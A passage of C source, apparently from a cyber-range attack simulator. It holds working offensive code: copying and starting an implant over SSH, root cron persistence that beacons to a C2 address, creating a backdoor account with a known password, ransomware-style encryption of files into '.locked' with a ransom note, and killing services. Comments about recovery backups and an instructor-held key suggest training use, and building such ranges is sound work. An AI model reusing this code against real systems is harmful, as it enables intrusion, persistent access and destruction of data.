                 "[ -w %s ] || { mkdir -p \"$d%s\" && p=\"$p --root $d\"; }; "
                 "setsid \"$f\" %s $p </dev/null >/dev/null 2>&1 & echo \"started $!\"",
                 ACT_RUN_DIR, ACT_RUN_DIR, args);
    memset(&s, 0, sizeof(s));
    s.addr = q->target_addr;
    s.port = 22;
    s.user = user;
    s.password = password;
    s.command = cmd;
    s.in = img;
    s.in_len = img_len;
    s.out_max = 65536;
    s.timeout_ms = hp_budget_ms(q, HP_SSH_TIMEOUT_MS);
    rc = hp_ssh_run(&s, &p, r, why, sizeof(why));
    free(img);
    if (rc < 0) {
        hp_detail(r, "ssh to %s failed: %s", q->target_addr, why);
        return 0;
    }
    /* The copy landed when ls -l shows the file with the size sent. */
    {
        const char *l = strstr(p.out, ACT_IMPLANT_PATH);
        const char *ls = l;
        unsigned long long size = 0;
        while (ls && ls > p.out && ls[-1] != '\n')
            ls--;
        if (ls != NULL) {
            size_t n = strcspn(ls, "\n");
            char f[5][64];
            snprintf(line, sizeof(line), "%.*s", (int)(n < sizeof(line) ? n : sizeof(line) - 1),
                     ls);
            if (sscanf(line, "%63s %63s %63s %63s %llu", f[0], f[1], f[2], f[3], &size) == 5)
                hp_ev_str(r, "remote_ls", line);
            else
                size = 0;
        }
        if (size == (unsigned long long)img_len && img_len > 0) {
            const char *st = strstr(p.out, "started ");
            r->succeeded = 1;
            hp_ev_int(r, "bytes", (long long)img_len);
            hp_ev_bool(r, "started", st != NULL);
            if (st != NULL)
                hp_ev_int(r, "remote_pid", atoll(st + 8));
            if (start)
                hp_ev_str(r, "implant_args", args);
            hp_detail(r, "logged in to %s as %s over ssh, implant copied to %s (%zu bytes)%s",
                      q->target_addr, user, ACT_IMPLANT_PATH, img_len,
                      st ? " and started" : ", not started");
        } else {
            hp_first_line(p.err, line, sizeof(line));
            hp_ev_str(r, "error", hp_ssh_failure(&p));
            hp_detail(r, "ssh %s@%s: %s%s%s", user, q->target_addr, hp_ssh_failure(&p),
                      line[0] ? ": " : "", line);
        }
    }
    hp_proc_free(&p);
    return 0;
}

/* ===================================================================== */
/* persistence                                                           */
/* ===================================================================== */

/* A cron schedule: five fields of digits, names, '*', '/', ',', '-', or
 * one of busybox crond's @keywords. */
static int hp_schedule_ok(const char *s)
{
    int fields = 0, in = 0;

    if (s[0] == '@')
        return strcmp(s, "@reboot") == 0 || strcmp(s, "@hourly") == 0 ||
               strcmp(s, "@daily") == 0 || strcmp(s, "@weekly") == 0 ||
               strcmp(s, "@monthly") == 0 || strcmp(s, "@yearly") == 0;
    for (; *s; s++) {
        if (*s == ' ' || *s == '\t') {
            in = 0;
            continue;
        }
        if (!isalnum((unsigned char)*s) && !strchr("*/,-", *s))
            return 0;
        if (!in)
            fields++;
        in = 1;
    }
    return fields == 5;
}

/* Whether a process called name runs (crond must, for the entry to fire). */
static int hp_proc_running(const char *name)
{
    DIR *d = opendir("/proc");
    struct dirent *de;
    int found = 0, seen = 0;

    if (d == NULL)
        return 0;
    while (!found && seen++ < HP_MAX_PROCS && (de = readdir(d)) != NULL) {
        char path[64], comm[64];
        int fd;
        ssize_t n;
        if (!isdigit((unsigned char)de->d_name[0]))
            continue;
        snprintf(path, sizeof(path), "/proc/%s/comm", de->d_name);
        fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
            continue;
        n = read(fd, comm, sizeof(comm) - 1);
        close(fd);
        if (n <= 0)
            continue;
        comm[n] = '\0';
        comm[strcspn(comm, "\n")] = '\0';
        found = strcmp(comm, name) == 0;
    }
    closedir(d);
    return found;
}

static int hp_persist_cron(const act_req *q, const char *name, act_result *r)
{
    const char *sched = hp_str(q, "schedule", "*/5 * * * *");
    char dir[PATH_MAX], path[PATH_MAX], upd[PATH_MAX], args[1500], entry[2048], marker[128];
    char why[512], *old = NULL, *out = NULL;
    size_t old_len = 0, o = 0, implant_bytes = 0;
    struct stat st;
    int rc = 0, replaced = 0;

    if (!hp_schedule_ok(sched)) {
        hp_detail(r, "invalid cron schedule '%.100s'", sched);
        return -1;
    }
    /* Each run beacons once and exits: the periodic check-in of cron
     * persistence, never a pile of daemons. */
    if (hp_implant_args(q, 60000, 0, 1, NULL, args, sizeof(args)) < 0) {
        hp_detail(r, "persistence: no C2 address in the request for the implant to call");
        return -1;
    }
    if (hp_path(q, ACT_IMPLANT_PATH, path, sizeof(path)) < 0)
        return -1;
    if (stat(path, &st) < 0 || !S_ISREG(st.st_mode)) {
        /* Not installed on this host yet (a server reached otherwise). */
        if (hp_implant_install(q, 0, 0, &implant_bytes, why, sizeof(why)) < 0) {
            hp_detail(r, "%s", why);
            return 0;
        }
        hp_ev_int(r, "implant_installed_bytes", (long long)implant_bytes);
    }
    snprintf(marker, sizeof(marker), "# %s", name);
    snprintf(entry, sizeof(entry), "%s\n%s %s %s >/dev/null 2>&1\n", marker, sched,
             ACT_IMPLANT_PATH, args);
    if (hp_path(q, HP_CRONTABS, dir, sizeof(dir)) < 0 ||
        hp_path(q, HP_CRONTABS "/root", path, sizeof(path)) < 0 ||
        hp_path(q, HP_CRONTABS "/cron.update", upd, sizeof(upd)) < 0)
        return -1;
    if (hp_mkdirs(dir, 0755, (uid_t)-1, (gid_t)-1) < 0) {
        hp_detail(r, "cannot make %s: %s", HP_CRONTABS, strerror(errno));
        return 0;
    }
    old = hp_read_file(path, 1u << 20, &old_len);
    out = malloc(old_len + strlen(entry) + 2);
    if (out == NULL) {
        free(old);
        hp_detail(r, "out of memory");
        return -1;
    }
    /* Keep the other lines; an entry of the same name is replaced (the
     * marker line and the line after it). */
    for (size_t i = 0; old != NULL && i < old_len;) {
        size_t e = i;
        while (e < old_len && old[e] != '\n')
            e++;
        if (e - i == strlen(marker) && memcmp(old + i, marker, e - i) == 0) {
            size_t e2 = e + 1;
            while (e2 < old_len && old[e2] != '\n')
                e2++;
            if (!replaced) {
                memcpy(out + o, entry, strlen(entry));
                o += strlen(entry);
            }
            replaced = 1;
            i = e2 < old_len ? e2 + 1 : old_len;
            continue;
        }
        memcpy(out + o, old + i, e - i);
        o += e - i;
        out[o++] = '\n';
        i = e + 1;
    }
    if (!replaced) {
        memcpy(out + o, entry, strlen(entry));
        o += strlen(entry);
    }
    if (hp_write_file(path, out, o, 0600, 0, 0) < 0 &&
        hp_write_file(path, out, o, 0600, (uid_t)-1, (gid_t)-1) < 0) {
        hp_detail(r, "cannot write %s/root: %s", HP_CRONTABS, strerror(errno));
        goto done;
    }
    /* busybox crond re-reads the users named in cron.update. */
    {
        int fd = open(upd, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0600);
        if (fd >= 0) {
            if (hp_write_all(fd, "root\n", 5) < 0) {
                /* crond also notices the folder's new mtime */
            }
            close(fd);
        }
    }
    r->succeeded = 1;
    hp_ev_str(r, "kind", "cron");
    hp_ev_str(r, "crontab", HP_CRONTABS "/root");
    {
        /* The schedule line alone, without the marker line. */
        char *l = entry + strlen(marker) + 1;
        l[strcspn(l, "\n")] = '\0';
        hp_ev_str(r, "entry", l);
    }
    hp_ev_bool(r, "crond_running", hp_proc_running("crond"));
    hp_ev_bool(r, "replaced", replaced);
    hp_detail(r, "cron entry %s for root runs %s (%s)", name, ACT_IMPLANT_PATH, sched);
done:
    free(old);
    free(out);
    return rc;
}

/* Environment for the image's account shims (adduser, chpasswd): ours,
 * with PW_ROOT set to q->root (their file-system prefix). */
static char **hp_env_with(const char *extra)
{
    size_t n = 0, k = 0;
    char **env;

    while (n < 4096 && environ[n])
        n++;
    env = calloc(n + 2, sizeof(char *));
    if (env == NULL)
        return NULL;
    for (size_t i = 0; i < n; i++)
        if (strncmp(environ[i], "PW_ROOT=", 8) != 0)
            env[k++] = environ[i];
    env[k++] = (char *)extra;
    env[k] = NULL;
    return env;
}

static int hp_persist_account(const act_req *q, const char *name, act_result *r)
{
    const char *password = hp_str(q, "password", NULL);
    char why[512], rootenv[PATH_MAX + 16], line[300], *pwline = NULL;
    char **env = NULL;
    hp_user u;
    hp_proc p;
    int existed = hp_user_find(q, name, &u) == 0, rc = 0;

    snprintf(rootenv, sizeof(rootenv), "PW_ROOT=%s", q->root ? q->root : "");
    env = hp_env_with(rootenv);
    if (env == NULL) {
        hp_detail(r, "out of memory");
        return -1;
    }
    hp_ev_str(r, "kind", "account");
    hp_ev_str(r, "account", name);
    hp_ev_bool(r, "existed", existed);
    if (!existed) {
        const char *argv[] = {"adduser", "-D", "-s", "/bin/sh", name, NULL};
        memset(&p, 0, sizeof(p));
        p.argv = argv;
        p.env = (const char *const *)env;
        p.fd3 = -1;
        p.out_max = 4096;
        p.timeout_ms = hp_budget_ms(q, 20000);
        if (hp_proc_run(&p, why, sizeof(why)) < 0) {
            hp_detail(r, "adduser: %s", why);
            goto done;
        }
        hp_proc_free(&p);
        if (p.timed_out || !WIFEXITED(p.status) || WEXITSTATUS(p.status) != 0) {
            hp_first_line(p.err, line, sizeof(line));
            hp_detail(r, "adduser %s failed: %s", name, line);
            goto done;
        }
    }
    if (password != NULL) {
        const char *argv[] = {"chpasswd", NULL};
        size_t n = strlen(name) + strlen(password) + 3;
        pwline = malloc(n);
        if (pwline == NULL || strchr(password, '\n') != NULL) {
            hp_detail(r, "%s", pwline ? "password must be one line" : "out of memory");
            rc = -1;
            goto done;
        }
        snprintf(pwline, n, "%s:%s\n", name, password);
        memset(&p, 0, sizeof(p));
        p.argv = argv;
        p.env = (const char *const *)env;
        p.fd3 = -1;
        p.in = pwline;
        p.in_len = strlen(pwline);
        p.out_max = 4096;
        p.timeout_ms = hp_budget_ms(q, 20000);
        if (hp_proc_run(&p, why, sizeof(why)) < 0) {
            hp_detail(r, "chpasswd: %s", why);
            goto done;
        }
        hp_proc_free(&p);
        if (p.timed_out || !WIFEXITED(p.status) || WEXITSTATUS(p.status) != 0) {
            hp_first_line(p.err, line, sizeof(line));
            hp_detail(r, "chpasswd for %s failed: %s", name, line);
            goto done;
        }
    }
    if (hp_user_find(q, name, &u) < 0) {
        hp_detail(r, "account %s is not in /etc/passwd after adduser", name);
        goto done;
    }
    hp_ev_int(r, "uid", (long long)u.uid);
    hp_ev_str(r, "home", u.home);
    hp_ev_bool(r, "password_set", password != NULL);
    r->succeeded = 1;
    hp_detail(r, "%s account %s (uid %u)%s", existed ? "existing" : "new", name,
              (unsigned)u.uid, password ? " with a known password" : ", no password (locked)");
done:
    if (pwline != NULL) {
        sodium_memzero(pwline, strlen(pwline));
        free(pwline);
    }
    free(env);
    return rc;
}

int act_persistence(const act_req *q, act_result *r)
{
    const char *kind = hp_str(q, "kind", NULL), *name = hp_str(q, "name", NULL);

    if (!hp_word_ok(name, 32)) {
        hp_detail(r, "persistence: invalid name (letters, digits, '.', '_', '-')");
        return -1;
    }
    if (kind != NULL && strcmp(kind, "cron") == 0)
        return hp_persist_cron(q, name, r);
    if (kind != NULL && strcmp(kind, "account") == 0)
        return hp_persist_account(q, name, r);
    hp_detail(r, "persistence: kind must be cron or account");
    return -1;
}

/* ===================================================================== */
/* impact.encrypt                                                        */
/* ===================================================================== */

typedef struct hp_files {
    char **v;       /* absolute paths (without q->root) */
    size_t n, cap;
    size_t entries; /* directory entries looked at */
} hp_files;

static int hp_files_add(hp_files *f, const char *abs)
{
    if (f->n == f->cap) {
        size_t nc = f->cap ? f->cap * 2 : 64;
        char **nv = realloc(f->v, nc * sizeof(char *));
        if (nv == NULL)
            return -1;
        f->v = nv;
        f->cap = nc;
    }
    f->v[f->n] = strdup(abs);
    if (f->v[f->n] == NULL)
        return -1;
    f->n++;
    return 0;
}

static void hp_files_free(hp_files *f)
{
    for (size_t i = 0; i < f->n; i++)
        free(f->v[i]);
    free(f->v);
}

static int hp_ends_with(const char *s, const char *suffix)
{
    size_t n = strlen(s), k = strlen(suffix);

    return n >= k && strcmp(s + n - k, suffix) == 0;
}

/* Regular files under abs, in name order, depth first, up to max; never
 * the recovery copies, the implant, earlier victims or notes. */
static int hp_walk(const act_req *q, const char *abs, int depth, size_t max, hp_files *f)
{
    char path[PATH_MAX], child[PATH_MAX], full[PATH_MAX];
    struct dirent **names = NULL;
    int n, rc = 0;

    if (depth > HP_MAX_DEPTH || f->n >= max || f->entries >= HP_MAX_ENTRIES)
        return 0;
    if (hp_path(q, abs, path, sizeof(path)) < 0)
        return 0;
    n = scandir(path, &names, NULL, alphasort);
    if (n < 0)
        return depth == 0 ? -1 : 0;
    for (int i = 0; i < n; i++) {
        const char *nm = names[i]->d_name;
        struct stat st;
        if (rc == 0 && f->n < max && f->entries < HP_MAX_ENTRIES && strcmp(nm, ".") != 0 &&
            strcmp(nm, "..") != 0) {
            f->entries++;
            if (snprintf(child, sizeof(child), "%s%s%s", abs, strcmp(abs, "/") ? "/" : "", nm) <
                    (int)sizeof(child) &&
                hp_path(q, child, full, sizeof(full)) == 0 && lstat(full, &st) == 0) {
                if (S_ISDIR(st.st_mode) && !hp_protected(child))
                    rc = hp_walk(q, child, depth + 1, max, f);
                else if (S_ISREG(st.st_mode) && !hp_ends_with(nm, ".locked") &&
                         strcmp(nm, HP_NOTE_NAME) != 0 && !hp_protected(child))
                    rc = hp_files_add(f, child);
            }
        }
        free(names[i]);
    }
    free(names);
    return rc;
}

/* Encrypt one file in place (the head only past HP_FULL_ENCRYPT, as
 * intermittent ransomware does), append the trailer, rename to .locked.
 * Returns the bytes encrypted, or -1. */
static long long hp_encrypt_file(const char *full, const unsigned char *key, const char *abs,
                                 int *partial)
{
    unsigned char nonce[crypto_stream_xchacha20_NONCEBYTES];
    unsigned char buf[65536];
    char locked[PATH_MAX];
    struct stat st;
    unsigned long long off = 0, limit;
    int fd;

    if (snprintf(locked, sizeof(locked), "%s.locked", full) >= (int)sizeof(locked))
        return -1;
    if (access(locked, F_OK) == 0)
        return -1;
    fd = open(full, O_RDWR | O_CLOEXEC | O_NOFOLLOW);
    if (fd < 0 || fstat(fd, &st) < 0 || !S_ISREG(st.st_mode)) {
        if (fd >= 0)
            close(fd);
        return -1;
    }
    /* A nonce per file, from the key and the path: reproducible. */
    crypto_generichash(nonce, sizeof(nonce), (const unsigned char *)abs, strlen(abs), key,
                       crypto_stream_xchacha20_KEYBYTES);
    limit = (unsigned long long)st.st_size;
    *partial = limit > HP_FULL_ENCRYPT;
    if (*partial)
        limit = HP_PARTIAL_ENCRYPT;
    while (off < limit) {
        size_t want = limit - off < sizeof(buf) ? (size_t)(limit - off) : sizeof(buf);
        ssize_t k = pread(fd, buf, want, (off_t)off);
        if (k < 0 && errno == EINTR)
            continue;
        if (k <= 0)
            break;
        /* Chunks are multiples of 64 bytes: the block counter is off/64. */
        crypto_stream_xchacha20_xor_ic(buf, buf, (unsigned long long)k, nonce, off / 64, key);
        if (pwrite(fd, buf, (size_t)k, (off_t)off) != k) {
            close(fd);
            return -1;
        }
        off += (unsigned long long)k;
    }
    if (pwrite(fd, HP_LOCK_MAGIC, 8, st.st_size) != 8 ||
        pwrite(fd, nonce, sizeof(nonce), st.st_size + 8) != (ssize_t)sizeof(nonce)) {
        close(fd);
        return -1;
    }
    close(fd);
    if (rename(full, locked) < 0)
        return -1;
    return (long long)off;
}

static const char hp_default_note[] =
    "YOUR FILES HAVE BEEN ENCRYPTED\n\n"
    "All documents on this share were encrypted with a strong cipher.\n"
    "Do not rename or modify the .locked files.\n"
    "To get the key, contact us with the ID below within 72 hours.\n";

int act_impact_encrypt(const act_req *q, act_result *r)
{
    const char *dir = hp_str(q, "path", NULL), *note = hp_str(q, "note", hp_default_note);
    long long max = hp_int(q, "max_files", 1000), bytes = 0;
    unsigned char key[crypto_stream_xchacha20_KEYBYTES], seedbuf[8 + 64];
    char bk[PATH_MAX], full[PATH_MAX], note_abs[PATH_MAX], id[17], *text = NULL;
    hp_files f = {0};
    json_t *sample = json_array();
    size_t done_n = 0, backed_now = 0, partial_n = 0, failed = 0, sl;
    struct stat st;

    if (!hp_abs_ok(dir) || hp_protected(dir)) {
        hp_detail(r, "impact.encrypt: refusing path %.200s (absolute, not a system folder, "
                     "never the recovery copies)", dir ? dir : "(none)");
        json_decref(sample);
        return -1;
    }
    if (max < 1 || max > 10000)
        max = 1000;
    if (sodium_init() < 0) {
        hp_detail(r, "libsodium failed to initialise");
        json_decref(sample);
        return -1;
    }
    if (hp_path(q, dir, full, sizeof(full)) < 0 || stat(full, &st) < 0 || !S_ISDIR(st.st_mode)) {
        hp_detail(r, "%s is not a folder on this host", dir);
        json_decref(sample);
        return 0;
    }
    /* The key comes from the step's seed: a rerun encrypts the same way,
     * and an instructor holding the seed could decrypt. */
    memset(seedbuf, 0, sizeof(seedbuf));
    for (int i = 0; i < 8; i++)
        seedbuf[i] = (unsigned char)(q->seed >> (8 * i));
    sl = q->step ? strlen(q->step) : 0;
    if (sl > 64)
        sl = 64;
    if (sl)
        memcpy(seedbuf + 8, q->step, sl);
    crypto_generichash(key, sizeof(key), seedbuf, 8 + sl,
                       (const unsigned char *)"cyrange-impact-encrypt", 22);
    sodium_bin2hex(id, sizeof(id), key, 8); /* the victim ID in the note, not the key */

    if (hp_walk(q, dir, 0, (size_t)max, &f) < 0) {
        hp_detail(r, "cannot list %s: %s", dir, strerror(errno));
        goto done;
    }
    for (size_t i = 0; i < f.n; i++) {
        int partial = 0, b;
        long long k;
        /* No recovery copy, no encryption: the recovery phase needs one. */
        b = hp_backup_ensure(q, f.v[i], bk, sizeof(bk));
        if (b < 0 || hp_path(q, f.v[i], full, sizeof(full)) < 0) {
            failed++;
            continue;
        }
        backed_now += (size_t)b;
        k = hp_encrypt_file(full, key, f.v[i], &partial);
        if (k < 0) {
            failed++;
            continue;
        }
        done_n++;
        bytes += k;
        partial_n += (size_t)partial;
        if (json_array_size(sample) < HP_SAMPLE)
            json_array_append_new(sample, json_string(f.v[i]));
    }
    /* The ransom note, at the top of the folder. */
    snprintf(note_abs, sizeof(note_abs), "%s%s%s", dir, strcmp(dir, "/") ? "/" : "",
             HP_NOTE_NAME);
    if (asprintf(&text, "%s\nID: %s\n", note, id) < 0)
        text = NULL;
    if (done_n > 0 && text != NULL && hp_path(q, note_abs, full, sizeof(full)) == 0 &&
        hp_write_file(full, text, strlen(text), 0644, (uid_t)-1, (gid_t)-1) == 0)
        hp_ev_str(r, "note", note_abs);
    free(text);

    hp_ev_str(r, "path", dir);
    hp_ev_int(r, "files", (long long)done_n);
    hp_ev_int(r, "bytes", bytes);
    hp_ev_int(r, "partial", (long long)partial_n);
    hp_ev_int(r, "failed", (long long)failed);
    hp_ev_int(r, "max_files", max);
    hp_ev_str(r, "cipher", "XChaCha20 (libsodium), key derived from the step seed");
    hp_ev_str(r, "extension", ".locked");
    hp_ev_str(r, "victim_id", id);
    {
        char bkdir[PATH_MAX];
        if (hp_backup_path(dir, bkdir, sizeof(bkdir)) == 0)
            hp_ev_str(r, "backup", bkdir);
    }
    hp_ev_int(r, "backup_added", (long long)backed_now);
    json_object_set(hp_ev(r), "sample", sample);
    r->succeeded = done_n > 0;
    if (done_n > 0)
        hp_detail(r, "%zu files (%lld bytes) under %s encrypted and renamed *.locked, ransom "
                     "note %s left%s", done_n, bytes, dir, HP_NOTE_NAME,
                  failed ? "; some files could not be encrypted" : "");
    else
        hp_detail(r, "no file under %s could be encrypted (%zu found)", dir, f.n);
done:
    sodium_memzero(key, sizeof(key));
    hp_files_free(&f);
    json_decref(sample);
    return 0;
}

/* ===================================================================== */
/* impact.service_stop                                                   */
/* ===================================================================== */

typedef struct hp_stat {
    pid_t pid, ppid, pgrp, sid;
    char state;
    char comm[32];
} hp_stat;

static int hp_proc_stat(pid_t pid, hp_stat *s)
{
    char path[64], buf[1024], *p;
    int fd;
    ssize_t n;

    snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    n = read(fd, buf, sizeof(buf) - 1);
    close(fd);
    if (n <= 0)
        return -1;
    buf[n] = '\0';
    p = strrchr(buf, ')');
    if (p == NULL)
        return -1;
    {
        char *lp = strchr(buf, '(');
        size_t cn = lp ? (size_t)(p - lp - 1) : 0;
        if (cn >= sizeof(s->comm))
            cn = sizeof(s->comm) - 1;
        memcpy(s->comm, lp ? lp + 1 : "", cn);
        s->comm[cn] = '\0';
    }
    {
        int ppid, pgrp, sid;
        if (sscanf(p + 2, "%c %d %d %d", &s->state, &ppid, &pgrp, &sid) != 4)
            return -1;
        s->ppid = ppid;
        s->pgrp = pgrp;
        s->sid = sid;
    }
    s->pid = pid;
    return 0;
}

/* A process that is gone or only a zombie waiting for its parent. */
static int hp_dead(pid_t pid)
{
    hp_stat s;

    return hp_proc_stat(pid, &s) < 0 || s.state == 'Z' || s.state == 'X';
}

/* Never ours to kill: init, this process and the agent that runs it. */
static int hp_spared(pid_t pid)
{
    return pid <= 1 || pid == getpid() || pid == getppid();
}

/* The service's processes: the leader, its group and session (start-services
 * runs each service as a session leader) and their descendants. */
static size_t hp_tree(pid_t leader, pid_t *out, size_t max)
{
    size_t n = 0;
    int grew = 1;

    if (max == 0)
        return 0;
    out[n++] = leader;
    for (int round = 0; round < 8 && grew && n < max; round++) {
        DIR *d = opendir("/proc");
        struct dirent *de;
        int seen = 0;
        grew = 0;
        if (d == NULL)
            break;
        while (n < max && seen++ < HP_MAX_PROCS && (de = readdir(d)) != NULL) {
            hp_stat s;
            pid_t pid;
            int known = 0, related = 0;
            if (!isdigit((unsigned char)de->d_name[0]))
                continue;
            pid = (pid_t)atoi(de->d_name);
            if (hp_proc_stat(pid, &s) < 0)
                continue;
            for (size_t i = 0; i < n; i++) {
                if (out[i] == pid)
                    known = 1;
                if (out[i] == s.ppid)
                    related = 1;
            }
            if (s.pgrp == leader || s.sid == leader)
                related = 1;
            if (!known && related && !hp_spared(pid)) {
                out[n++] = pid;
                grew = 1;
            }
        }
        closedir(d);
    }
    return n;
}

typedef struct hp_sock {
    char proto[8];      /* tcp, udp */
    int port;
} hp_sock;

/* Socket inodes of a process's open descriptors. */
static size_t hp_sock_inodes(pid_t pid, unsigned long *out, size_t max, size_t n)
{
    char path[64];
    DIR *d;
    struct dirent *de;
    int seen = 0;

    snprintf(path, sizeof(path), "/proc/%d/fd", (int)pid);
    d = opendir(path);
    if (d == NULL)
        return n;
    while (n < max && seen++ < 65536 && (de = readdir(d)) != NULL) {
        char link[PATH_MAX], target[128];
        ssize_t k;
        unsigned long ino;
        if (snprintf(link, sizeof(link), "%s/%s", path, de->d_name) >= (int)sizeof(link))
            continue;
        k = readlink(link, target, sizeof(target) - 1);
        if (k <= 0)
            continue;
        target[k] = '\0';
        if (sscanf(target, "socket:[%lu]", &ino) == 1)
            out[n++] = ino;
    }
    closedir(d);
    return n;
}

/* Walk /proc/net/{tcp,tcp6,udp,udp6}: listening TCP sockets and bound UDP
 * sockets.  With inodes: the ports of those sockets (into socks); with
 * ports (socks given, inodes NULL): how many of them still listen. */
static size_t hp_net_scan(const unsigned long *inodes, size_t ninodes, hp_sock *socks,
                          size_t *nsocks, size_t maxsocks)
{
    static const char *const files[] = {"/proc/net/tcp", "/proc/net/tcp6", "/proc/net/udp",
                                        "/proc/net/udp6"};
    size_t still = 0;

    for (int fi = 0; fi < 4; fi++) {
        int udp = fi >= 2, lines = 0;
        char line[512];
        FILE *fp = fopen(files[fi], "re");
        if (fp == NULL)
            continue;
        while (lines++ < 200000 && fgets(line, sizeof(line), fp) != NULL) {
            char local[64], rem[64];
            unsigned st, port;
            unsigned long ino;
            char *colon;
            if (sscanf(line, " %*d: %63s %63s %x %*s %*s %*s %*s %*s %lu", local, rem, &st,
                       &ino) != 4)
                continue;
            /* TCP LISTEN is 0A; a bound UDP socket is 07 (unconnected). */
            if ((!udp && st != 0x0A) || (udp && st != 0x07))
                continue;
            colon = strrchr(local, ':');
            if (colon == NULL)
                continue;
            port = (unsigned)strtoul(colon + 1, NULL, 16);
            if (inodes != NULL) {
                int mine = 0, dup = 0;
                for (size_t i = 0; i < ninodes; i++)
                    mine |= inodes[i] == ino;
                if (!mine)
                    continue;
                for (size_t i = 0; i < *nsocks; i++)
                    dup |= socks[i].port == (int)port &&
                           strcmp(socks[i].proto, udp ? "udp" : "tcp") == 0;
                if (!dup && *nsocks < maxsocks) {
                    snprintf(socks[*nsocks].proto, sizeof(socks[*nsocks].proto), "%s",
                             udp ? "udp" : "tcp");
                    socks[*nsocks].port = (int)port;
                    (*nsocks)++;
                }
            } else {
                for (size_t i = 0; i < *nsocks; i++)
                    if (socks[i].port == (int)port &&
                        strcmp(socks[i].proto, udp ? "udp" : "tcp") == 0)
                        still++;
            }
        }
        fclose(fp);
    }
    return still;
}

/* The usual ports of the scenario's service names, for a service whose
 * pid file is gone (started by hand, or stopped before). */
static size_t hp_default_ports(const char *svc, hp_sock *socks, size_t max)
{
    static const struct {
        const char *name, *proto;
        int port;
    } t[] = {{"http", "tcp", 80},  {"smtp", "tcp", 25},    {"ftp", "tcp", 21},
             {"dns", "udp", 53},   {"dns", "tcp", 53},     {"ssh", "tcp", 22},
             {"proxy", "tcp", 3128}, {"dhcp", "udp", 67},  {"https", "tcp", 443}};
    size_t n = 0;

    for (size_t i = 0; i < sizeof(t) / sizeof(t[0]) && n < max; i++)
        if (strcmp(t[i].name, svc) == 0) {
            snprintf(socks[n].proto, sizeof(socks[n].proto), "%s", t[i].proto);
            socks[n++].port = t[i].port;
        }
    return n;
}

/* Processes owning listening sockets on those ports. */
static size_t hp_port_owners(const hp_sock *socks, size_t nsocks, pid_t *out, size_t max)
{
    DIR *d = opendir("/proc");
    struct dirent *de;
    size_t n = 0;
    int seen = 0;

    if (d == NULL)
        return 0;
    while (n < max && seen++ < HP_MAX_PROCS && (de = readdir(d)) != NULL) {
        unsigned long inodes[256];
        hp_sock found[16];
        size_t ni, nf = 0;
        pid_t pid;
        if (!isdigit((unsigned char)de->d_name[0]))
            continue;
        pid = (pid_t)atoi(de->d_name);
        if (hp_spared(pid))
            continue;
        ni = hp_sock_inodes(pid, inodes, 256, 0);
        if (ni == 0)
            continue;
        hp_net_scan(inodes, ni, found, &nf, 16);
        for (size_t i = 0; i < nf; i++) {
            int hit = 0;
            for (size_t k = 0; k < nsocks; k++)
                hit |= found[i].port == socks[k].port && strcmp(found[i].proto, socks[k].proto) == 0;
            if (hit) {
                out[n++] = pid;
                break;
            }
        }
    }
    closedir(d);
    return n;
}

int act_impact_service_stop(const act_req *q, act_result *r)
{
    const char *svc = hp_str(q, "service", NULL);
    char abs[PATH_MAX], path[PATH_MAX], *pidtxt = NULL, buf[64];
    pid_t leader = 0, pids[256];
    unsigned long inodes[1024];
    hp_sock socks[32];
    size_t npids = 0, ninodes = 0, nsocks = 0, still;
    json_t *jports = json_array(), *jpids = json_array();
    int by_port = 0;

    if (!hp_word_ok(svc, 32)) {
        hp_detail(r, "impact.service_stop: invalid service name");
        json_decref(jports);
        json_decref(jpids);
        return -1;
    }
    hp_ev_str(r, "service", svc);
    snprintf(abs, sizeof(abs), "%s/%s.pid", HP_SERVICES_DIR, svc);
    if (hp_path(q, abs, path, sizeof(path)) == 0 &&
        (pidtxt = hp_read_file(path, 64, NULL)) != NULL) {
        long v = strtol(pidtxt, NULL, 10);
        hp_stat st;
        /* start-services runs each daemon as a session leader: a pid that
         * is not one is stale (reused) and not ours to kill. */
        if (!hp_spared((pid_t)v) && !hp_dead((pid_t)v) && hp_proc_stat((pid_t)v, &st) == 0 &&
            st.sid == (pid_t)v)
            leader = (pid_t)v;
        free(pidtxt);
    }
    if (leader > 0) {
        npids = hp_tree(leader, pids, 256);
        for (size_t i = 0; i < npids; i++)
            ninodes = hp_sock_inodes(pids[i], inodes, 1024, ninodes);
        hp_net_scan(inodes, ninodes, socks, &nsocks, 32);
        hp_ev_str(r, "pidfile", abs);
        hp_ev_int(r, "pid", leader);
    }
    if (nsocks == 0)
        nsocks = hp_default_ports(svc, socks, 32);
    if (leader <= 0) {
        /* No pid file (or a stale one): whoever listens on the ports. */
        npids = nsocks ? hp_port_owners(socks, nsocks, pids, 256) : 0;
        by_port = 1;
    }
    for (size_t i = 0; i < nsocks; i++) {
        snprintf(buf, sizeof(buf), "%s/%d", socks[i].proto, socks[i].port);
        json_array_append_new(jports, json_string(buf));
    }
    json_object_set(hp_ev(r), "ports", jports);
    if (npids == 0) {
        still = nsocks ? hp_net_scan(NULL, 0, socks, &nsocks, 32) : 0;
        hp_ev_bool(r, "was_running", 0);
        r->succeeded = nsocks > 0 && still == 0;
        hp_detail(r, "service %s was not running (no %s, nothing on its ports)%s", svc, abs,
                  r->succeeded ? "" : "; ports unknown");
        goto done;
    }
    hp_ev_bool(r, "was_running", 1);
    /* TERM first, as an attacker's kill would, then KILL what is left. */
    if (leader > 0)
        kill(-leader, SIGTERM);
    for (size_t i = 0; i < npids; i++) {
        kill(pids[i], SIGTERM);
        json_array_append_new(jpids, json_integer(pids[i]));
    }
    json_object_set(hp_ev(r), "pids", jpids);
    for (int t = 0; t < 60; t++) {
        size_t alive = 0;
        for (size_t i = 0; i < npids; i++)
            alive += !hp_dead(pids[i]);
        if (alive == 0)
            break;
        if (t == 40) {
            if (leader > 0)
                kill(-leader, SIGKILL);
            for (size_t i = 0; i < npids; i++)
                kill(pids[i], SIGKILL);
        }
        hp_sleep_ms(50);
    }
    /* Success: nothing listens on the service's ports any more. */
    still = 0;
    for (int t = 0; t < 20; t++) {
        still = hp_net_scan(NULL, 0, socks, &nsocks, 32);
        if (still == 0)
            break;
        hp_sleep_ms(50);
    }
    {
        size_t alive = 0;
        for (size_t i = 0; i < npids; i++)
            alive += !hp_dead(pids[i]);
        hp_ev_int(r, "killed", (long long)(npids - alive));
        hp_ev_int(r, "still_listening", (long long)still);
        r->succeeded = still == 0 && alive == 0;
